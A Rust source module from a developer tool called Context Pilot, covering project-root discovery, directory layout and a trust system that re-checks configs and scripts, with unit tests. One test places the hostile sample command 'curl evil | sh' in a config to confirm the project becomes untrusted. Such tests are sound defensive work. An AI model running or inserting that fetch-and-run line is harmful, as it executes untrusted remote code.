//! The project: its root directory and the `.context-pilot/` layout beneath it.

use std::io;
use std::path::{Component, Path, PathBuf};
use std::sync::Arc;

use crate::layout::STATE_DIR;
use crate::private::{PRIVATE_DIRS, secure_private_dir};
use crate::store::{ConfigFile, StoreError, write_atomic};
use crate::trust::{Grant, TrustError, TrustState, TrustStore, script_paths};
use crate::trust_cache::{self, TrustCache};
use crate::worker::WorkerId;

/// What `.context-pilot/.gitignore` keeps out of version control: per-machine state, and
/// the file itself. It is written on every machine that runs Context Pilot, for state only
/// that machine has; listed as a change, it would ask each person to commit a file none of
/// them wrote, and left untracked it would keep `git status` from ever being clean.
const GITIGNORE: &str = "# Written by Context Pilot: per-machine state, not for version control.\nrun/\nstate/\nlogs/\n.*.lock\n.gitignore\n";

/// What earlier versions wrote there (without the file itself): replaced, since no one wrote
/// it by hand.
const GITIGNORE_BEFORE: &str = "# Written by Context Pilot: per-machine state, not for version control.\nrun/\nstate/\nlogs/\n.*.lock\n";

struct Inner {
    root: PathBuf,
    config: ConfigFile,
    trust: TrustStore,
    /// The last trust verdict, reused while its input files are unchanged.
    verdict: TrustCache,
}

/// A project root and its `.context-pilot/` directory. Cheap to clone; clones share caches.
#[derive(Clone)]
pub struct Project {
    inner: Arc<Inner>,
}

impl std::fmt::Debug for Project {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Project")
            .field("root", &self.inner.root)
            .finish()
    }
}

impl Grant {
    /// Reads the grant of `project` from its `config.json` and scripts.
    pub fn of(project: &Project) -> Result<Self, TrustError> {
        Self::read(project.config(), &project.scripts_dir())
    }
}

impl Project {
    /// The git root above `start` (the nearest directory holding `.git`), else `start` itself.
    ///
    /// Finding the root by walking up needs no git binary, so a machine without git still works.
    pub fn discover(start: &Path) -> io::Result<Self> {
        let start = std::fs::canonicalize(start).map_err(|e| {
            io::Error::new(
                e.kind(),
                format!("project directory {}: {e}", start.display()),
            )
        })?;
        if !start.is_dir() {
            return Err(io::Error::new(
                io::ErrorKind::NotADirectory,
                format!("project directory {} is not a directory", start.display()),
            ));
        }
        let root = start
            .ancestors()
            .find(|dir| dir.join(".git").exists())
            .map_or_else(|| start.clone(), Path::to_path_buf);
        Ok(Self::at(root))
    }

    /// A project rooted exactly at `root` (which should be absolute and canonical), with the
    /// user's trust store ([`TrustStore::user`]).
    pub fn at(root: impl Into<PathBuf>) -> Self {
        Self::with_store(root.into(), TrustStore::user())
    }

    fn with_store(root: PathBuf, trust: TrustStore) -> Self {
        let config = ConfigFile::new(root.join(STATE_DIR).join("config.json"));
        Self {
            inner: Arc::new(Inner {
                root,
                config,
                trust,
                verdict: TrustCache::default(),
            }),
        }
    }

    /// The same project, recording trust in `store` instead (tests, tools).
    #[must_use]
    pub fn with_trust_store(self, store: TrustStore) -> Self {
        Self::with_store(self.inner.root.clone(), store)
    }

    /// Where this project's trust is recorded.
    pub fn trust_store(&self) -> &TrustStore {
        &self.inner.trust
    }

    /// Whether the project's callbacks, configured test command and `llm.base_url` may take
    /// effect now. A grant or trust file that cannot be read counts as untrusted.
    ///
    /// Read under the store's lock: another worker changing the configuration through
    /// [`keep_trust`](Self::keep_trust) re-records the grant under it, and a read between
    /// its config write and that record would see a trusted project as changed (a TUI
    /// starting then would ask for trust; a callback firing then would be skipped). A store
    /// that cannot be locked (a read-only home) is read without it.
    ///
    /// The verdict is kept while `config.json`, the trust file and the scripts are unchanged
    /// (see `trust_cache.rs`), so asking again costs a few `stat`s.
    pub fn trust_state(&self) -> TrustState {
        if let Some(state) = self.inner.verdict.get() {
            return state;
        }
        let _lock = self.inner.trust.lock().ok();
        let inputs = self.trust_inputs();
        let state = self.trust_state_unlocked();
        if let Some(inputs) = inputs {
            self.inner.verdict.put(inputs, &state);
        }
        state
    }

    /// The stamps of every file the trust verdict is read from, taken before they are read;
    /// `None` when they cannot all be named (the verdict is then not kept).
    fn trust_inputs(&self) -> Option<trust_cache::Inputs> {
        let store = self.inner.trust.path()?.to_path_buf();
        let config = self.config().path().to_path_buf();
        // The config's stamp first: scripts named by a config written after it are covered
        // by that stamp changing.
        // The worktree's `.git` file: what links it to a repository whose trust it may share.
        let mut inputs = trust_cache::stamps([config, store, self.root().join(".git")]);
        let scripts = script_paths(self.config(), &self.scripts_dir()).ok()?;
        inputs.extend(trust_cache::stamps(scripts));
        Some(inputs)
    }

    /// [`trust_state`](Self::trust_state) for a caller that holds the store's lock.
    fn trust_state_unlocked(&self) -> TrustState {
        let grant = match Grant::of(self) {
            Ok(grant) => grant,
            Err(e) => return TrustState::Unknown(e.to_string()),
        };
        if grant.is_empty() {
            return TrustState::NothingToTrust;
        }
        let own = match self.inner.trust.recorded(self.root()) {
            Ok(Some(hash)) if hash == grant.hash() => return TrustState::Trusted,
            Ok(Some(_)) => TrustState::Changed,
            Ok(None) => TrustState::Untrusted,
            Err(e) => return TrustState::Unknown(e.to_string()),
        };
        if let Some(repository) = self.worktree_of()
            && let Ok(Some(hash)) = self.inner.trust.recorded(&repository)
            && hash == grant.hash()
        {
            return TrustState::TrustedWorktree { repository };
        }
        own
    }

    /// The repository whose linked worktree this project is (`git worktree add`, Claude
    /// Code's `.claude/worktrees/agent-…`, a workflow's parallel phase), if it is one.
    pub fn worktree_of(&self) -> Option<PathBuf> {
        crate::trust_worktree::repository_of_worktree(self.root())
    }

    /// Shorthand for `trust_state().allows()`.
    pub fn is_trusted(&self) -> bool {
        self.trust_state().allows()
    }

    /// Trusts what the project allows now (`context-pilot trust`); returns it.
    pub fn grant_trust(&self) -> Result<Grant, TrustError> {
        let _lock = self.inner.trust.lock()?;
        let grant = Grant::of(self)?;
        self.inner
            .trust
            .record_locked(self.root(), Some(grant.hash()))?;
        Ok(grant)
    }

    /// Runs `change`, a change to the project's configuration made through Context Pilot's
    /// own tools, and keeps the project trusted if it was before (or needed no trust): the
    /// new grant is recorded. An untrusted project stays untrusted. The store's lock is held
    /// throughout, so two tools changing the config at once both keep the trust.
    pub fn keep_trust<R>(&self, change: impl FnOnce() -> R) -> R {
        let lock = self.inner.trust.lock();
        let before = self.trust_state_unlocked();
        let out = change();
        if lock.is_ok() && before.allows() {
            match Grant::of(self) {
                Ok(grant) if grant.is_empty() => {}
                // Unchanged (e.g. a toggle): nothing to record.
                Ok(grant)
                    if self
                        .inner
                        .trust
                        .recorded(self.root())
                        .ok()
                        .flatten()
                        .as_deref()
                        == Some(grant.hash()) => {}
                Ok(grant) => {
                    if let Err(e) = self
                        .inner
                        .trust
                        .record_locked(self.root(), Some(grant.hash()))
                    {
                        tracing::warn!("cannot keep the project trusted: {e}");
                    }
                }
                Err(e) => tracing::warn!("cannot keep the project trusted: {e}"),
            }
        }
        out
    }

    pub fn root(&self) -> &Path {
        &self.inner.root
    }

    /// `.context-pilot/`
    pub fn dir(&self) -> PathBuf {
        self.inner.root.join(STATE_DIR)
    }

    /// The shared `config.json`, with its read cache.
    pub fn config(&self) -> &ConfigFile {
        &self.inner.config
    }

    pub fn scripts_dir(&self) -> PathBuf {
        self.dir().join("scripts")
    }
    pub fn workflows_dir(&self) -> PathBuf {
        self.dir().join("workflows")
    }
    pub fn handoffs_dir(&self) -> PathBuf {
        self.dir().join("handoffs")
    }
    pub fn runs_dir(&self) -> PathBuf {
        self.dir().join("runs")
    }
    /// Session state of one worker (ignored by git).
    pub fn state_dir(&self, worker: &WorkerId) -> PathBuf {
        self.dir().join("state").join(worker.as_str())
    }
    /// Console server socket, pid and console logs (ignored by git).
    pub fn run_dir(&self) -> PathBuf {
        self.dir().join("run")
    }
    pub fn logs_dir(&self) -> PathBuf {
        self.dir().join("logs")
    }
    /// Lock files for the documents under `.context-pilot/`.
    pub fn locks_dir(&self) -> PathBuf {
        self.run_dir().join("locks")
    }

    /// Creates the directory layout and its `.gitignore`. Existing files are left alone.
    pub fn ensure_layout(&self) -> Result<(), StoreError> {
        for dir in [
            self.dir(),
            self.scripts_dir(),
            self.handoffs_dir(),
            self.runs_dir(),
            self.dir().join("state"),
            self.run_dir(),
            self.logs_dir(),
        ] {
            crate::private::create_dir_all(&dir).map_err(|e| StoreError::io(&dir, e))?;
        }
        // Console output, sockets and session state are for this user only; this also fixes
        // the modes of what an older version created world-readable.
        for name in PRIVATE_DIRS {
            let dir = self.dir().join(name);
            secure_private_dir(&dir).map_err(|e| StoreError::io(&dir, e))?;
        }
        let ignore = self.dir().join(".gitignore");
        let stale = || std::fs::read(&ignore).is_ok_and(|b| b == GITIGNORE_BEFORE.as_bytes());
        if !ignore.exists() || stale() {
            write_atomic(&ignore, GITIGNORE.as_bytes())?;
        }
        Ok(())
    }

    /// `path` relative to the root with `/` separators, if it lies inside the root.
    ///
    /// Purely lexical: resolve symlinks first (see `File_*` tools) when that matters.
    pub fn relative(&self, path: &Path) -> Option<String> {
        let rel = path.strip_prefix(&self.inner.root).ok()?;
        let mut parts = Vec::new();
        for comp in rel.components() {
            match comp {
                Component::Normal(p) => parts.push(p.to_string_lossy().into_owned()),
                Component::CurDir => {}
                _ => return None,
            }
        }
        Some(parts.join("/"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layout_makes_run_logs_and_state_private_even_when_they_exist() {
        use std::os::unix::fs::PermissionsExt;
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join(".git")).unwrap();
        let p = Project::discover(tmp.path()).unwrap();
        let state = p.dir().join("state/main");
        std::fs::create_dir_all(&state).unwrap();
        std::fs::create_dir_all(p.logs_dir()).unwrap();
        std::fs::write(state.join("session.json"), "{}").unwrap();
        std::fs::write(p.logs_dir().join("context-pilot.log"), "x").unwrap();
        let set = |path: &Path, mode: u32| {
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
        };
        set(&state, 0o755);
        set(&p.logs_dir(), 0o755);
        set(&state.join("session.json"), 0o644);
        set(&p.logs_dir().join("context-pilot.log"), 0o644);
        p.ensure_layout().unwrap();
        let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
        for dir in [
            p.run_dir(),
            p.logs_dir(),
            p.dir().join("state"),
            state.clone(),
        ] {
            assert_eq!(mode(&dir), 0o700, "{}", dir.display());
        }
        assert_eq!(mode(&state.join("session.json")), 0o600);
        assert_eq!(mode(&p.logs_dir().join("context-pilot.log")), 0o600);
    }

    #[test]
    fn discovers_the_git_root_from_a_subdirectory() {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join(".git")).unwrap();
        std::fs::create_dir_all(tmp.path().join("a/b")).unwrap();
        let p = Project::discover(&tmp.path().join("a/b")).unwrap();
        assert_eq!(p.root(), std::fs::canonicalize(tmp.path()).unwrap());
    }

    #[test]
    fn falls_back_to_the_directory_itself() {
        let tmp = tempfile::tempdir().unwrap();
        let p = Project::discover(tmp.path()).unwrap();
        assert_eq!(p.root(), std::fs::canonicalize(tmp.path()).unwrap());
        assert!(Project::discover(&tmp.path().join("missing")).is_err());
    }

    #[test]
    fn layout_has_a_gitignore_for_machine_state() {
        let tmp = tempfile::tempdir().unwrap();
        let p = Project::at(tmp.path());
        p.ensure_layout().unwrap();
        let ignore = std::fs::read_to_string(p.dir().join(".gitignore")).unwrap();
        for line in ["run/", "state/", "logs/", ".gitignore"] {
            assert!(ignore.lines().any(|l| l == line));
        }
        // What an earlier version wrote is brought up to date; a person's own is kept.
        std::fs::write(p.dir().join(".gitignore"), GITIGNORE_BEFORE).unwrap();
        p.ensure_layout().unwrap();
        let ignore = std::fs::read_to_string(p.dir().join(".gitignore")).unwrap();
        assert_eq!(ignore, GITIGNORE);
        std::fs::write(p.dir().join(".gitignore"), "state/\n").unwrap();
        p.ensure_layout().unwrap();
        let ignore = std::fs::read_to_string(p.dir().join(".gitignore")).unwrap();
        assert_eq!(ignore, "state/\n");
        assert!(p.scripts_dir().is_dir() && p.run_dir().is_dir());
        assert_eq!(
            p.relative(&tmp.path().join("src/a.rs")).unwrap(),
            "src/a.rs"
        );
        assert_eq!(p.relative(Path::new("/elsewhere")), None);
    }
}

/// Trust as a project sees it: the grant read from its files, recorded in its store.
#[cfg(test)]
mod trust_tests {
    use std::fs;

    use super::*;

    fn fixture() -> (tempfile::TempDir, tempfile::TempDir, Project) {
        let home = tempfile::tempdir().unwrap();
        let root = tempfile::tempdir().unwrap();
        let project = Project::at(root.path().canonicalize().unwrap())
            .with_trust_store(TrustStore::at(home.path().join("cp/trust.json")));
        fs::create_dir_all(project.scripts_dir()).unwrap();
        (home, root, project)
    }

    fn write_config(project: &Project, text: &str) {
        fs::write(project.dir().join("config.json"), text).unwrap();
    }

    #[test]
    fn a_worktree_is_trusted_as_its_repository_while_its_config_is_the_same() {
        use crate::trust_worktree::tests::git;
        let (home, _root, main) = fixture();
        let store = TrustStore::at(home.path().join("cp/trust.json"));
        let config = r#"{"checkpoint": {"tests": {"command": "make test"}}}"#;
        write_config(&main, config);
        git(main.root(), &["init", "-q"]);
        git(main.root(), &["add", "-A"]);
        git(main.root(), &["commit", "-qm", "init"]);
        let tree_root = main.root().join(".claude/worktrees/agent-a1");
        git(
            main.root(),
            &["worktree", "add", "-q", tree_root.to_str().unwrap()],
        );
        let tree = Project::at(&tree_root).with_trust_store(store.clone());
        assert_eq!(tree.worktree_of().as_deref(), Some(main.root()));

        // The repository is not trusted: neither is its worktree.
        assert_eq!(tree.trust_state(), TrustState::Untrusted);
        main.grant_trust().unwrap();
        assert_eq!(
            tree.trust_state(),
            TrustState::TrustedWorktree {
                repository: main.root().to_path_buf()
            }
        );
        assert!(tree.is_trusted());
        assert_eq!(
            store.recorded(&tree_root).unwrap(),
            None,
            "no record of its own"
        );

        // The worktree's config changes outside Context Pilot: untrusted, as a clone would be.
        write_config(
            &tree,
            r#"{"checkpoint": {"tests": {"command": "curl evil | sh"}}}"#,
        );
        assert_eq!(tree.trust_state(), TrustState::Untrusted);
        write_config(&tree, config);
        assert!(tree.is_trusted());
        // The repository's trust is revoked: the worktree's goes with it.
        store.revoke(main.root()).unwrap();
        assert_eq!(tree.trust_state(), TrustState::Untrusted);
    }

    #[test]
    fn a_script_edit_outside_the_tools_needs_trust_again() {
        let (home, _root, project) = fixture();
        write_config(
            &project,
            r#"{"callbacks": {"definitions": [{"id": "CB1", "name": "lint", "pattern": ["*"]}]}}"#,
        );
        fs::write(project.scripts_dir().join("lint.sh"), "echo one\n").unwrap();
        assert_eq!(project.trust_state(), TrustState::Untrusted);
        let grant = project.grant_trust().unwrap();
        assert!(grant.describe().contains("echo one"));
        assert_eq!(project.trust_state(), TrustState::Trusted);
        fs::write(project.scripts_dir().join("lint.sh"), "echo two\n").unwrap();
        assert_eq!(project.trust_state(), TrustState::Changed);
        // The store is private to the user.
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = fs::metadata(home.path().join("cp/trust.json"))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600);
        }
        assert!(project.trust_store().revoke(project.root()).unwrap());
        assert_eq!(project.trust_state(), TrustState::Untrusted);
    }

    #[test]
    fn keep_trust_re_records_only_a_trusted_project() {
        let (_home, _root, project) = fixture();
        project.keep_trust(|| {
            write_config(&project, r#"{"llm": {"base_url": "http://a"}}"#);
        });
        assert!(project.is_trusted(), "nothing to trust before: kept");
        write_config(&project, r#"{"llm": {"base_url": "http://b"}}"#);
        assert_eq!(project.trust_state(), TrustState::Changed);
        project.keep_trust(|| {
            write_config(&project, r#"{"llm": {"base_url": "http://c"}}"#);
        });
        assert_eq!(project.trust_state(), TrustState::Changed);
    }

    #[test]
    fn a_config_change_through_the_tools_is_never_seen_half_done() {
        // One thread keeps changing the trusted config through the tools (as another worker
        // would); another keeps reading the trust state: it must never see "changed".
        let (_home, _root, project) = fixture();
        write_config(&project, r#"{"llm": {"base_url": "http://0"}}"#);
        project.grant_trust().unwrap();
        let done = std::sync::atomic::AtomicBool::new(false);
        std::thread::scope(|scope| {
            scope.spawn(|| {
                for i in 1..50 {
                    project.keep_trust(|| {
                        let text = format!(r#"{{"llm": {{"base_url": "http://{i}"}}}}"#);
                        crate::atomic::replace_file(
                            &project.dir().join("config.json"),
                            text.as_bytes(),
                            crate::atomic::Mode::KeepOr(0o644),
                        )
                        .unwrap();
                    });
                }
                done.store(true, std::sync::atomic::Ordering::SeqCst);
            });
            let mut reads = 0;
            while !done.load(std::sync::atomic::Ordering::SeqCst) {
                assert_eq!(
                    project.trust_state(),
                    TrustState::Trusted,
                    "after {reads} reads"
                );
                reads += 1;
            }
        });
        assert_eq!(project.trust_state(), TrustState::Trusted);
    }

    #[test]
    fn activation_is_not_part_of_the_grant() {
        let (_home, _root, project) = fixture();
        write_config(
            &project,
            r#"{"checkpoint": {"tests": {"command": "make"}}}"#,
        );
        project.grant_trust().unwrap();
        write_config(
            &project,
            r#"{"checkpoint": {"tests": {"command": "make"}}, "callbacks": {"active": {"main": []}}}"#,
        );
        assert!(project.is_trusted());
    }
}
